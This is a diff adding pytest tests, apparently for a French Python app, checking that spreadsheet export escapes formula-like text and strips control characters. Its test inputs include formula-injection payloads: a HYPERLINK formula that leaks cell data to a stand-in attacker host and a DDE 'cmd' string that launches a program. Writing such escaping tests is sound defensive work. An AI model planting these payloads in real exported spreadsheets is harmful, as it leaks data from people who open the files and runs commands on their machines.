@@ -5,12 +5,13 @@ import io
 import zipfile
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from sne.organisations.tableurs import (
     TAILLE_DECOMPRESSEE_MAX,
     FichierIllisible,
     FichierTropLong,
+    ecrire_cellule,
     lire_csv,
     lire_xlsx,
 )
@@ -101,3 +102,46 @@ def test_un_csv_illisible_est_refuse_clairement(contenu, xlsx_accepte, attendu):
         lire_csv(contenu, lignes_max=10, xlsx_accepte=xlsx_accepte)
 
     assert attendu in erreur.value.message
+
+
+def relu(*valeurs):
+    """The cells of column A of a workbook written with `ecrire_cellule`, read back."""
+    wb = Workbook()
+    for ligne, valeur in enumerate(valeurs, start=1):
+        ecrire_cellule(wb.active, ligne, 1, valeur)
+    tampon = io.BytesIO()
+    wb.save(tampon)
+    return [ligne[0] for ligne in load_workbook(tampon).active.iter_rows()]
+
+
+@pytest.mark.parametrize(
+    "texte",
+    [
+        '=HYPERLINK("https://attaquant.example/?"&A1,"Cliquez ici")',
+        "+33 1 49 00 00 00",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SOMME(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_un_texte_qui_commence_comme_une_formule_est_ecrit_comme_du_texte(texte):
+    (cellule,) = relu(texte)
+
+    assert cellule.data_type == "s"
+    assert cellule.value == texte.replace("\r", "\n")  # XML reads a lone CR as a line feed
+    assert cellule.quotePrefix
+
+
+def test_un_texte_ordinaire_est_ecrit_tel_quel_et_les_autres_valeurs_gardent_leur_type():
+    texte, vide, nombre = relu("Accueil du public", None, 93)
+
+    assert (texte.data_type, texte.value, texte.quotePrefix) == ("s", "Accueil du public", False)
+    assert (nombre.data_type, nombre.value) == ("n", 93)
+    assert vide.value is None
+
+
+def test_un_caractere_de_controle_qu_un_classeur_ne_peut_contenir_est_retire():
+    (cellule,) = relu("Accueil\x01 du\x0b public")
+
+    assert cellule.value == "Accueil du public"
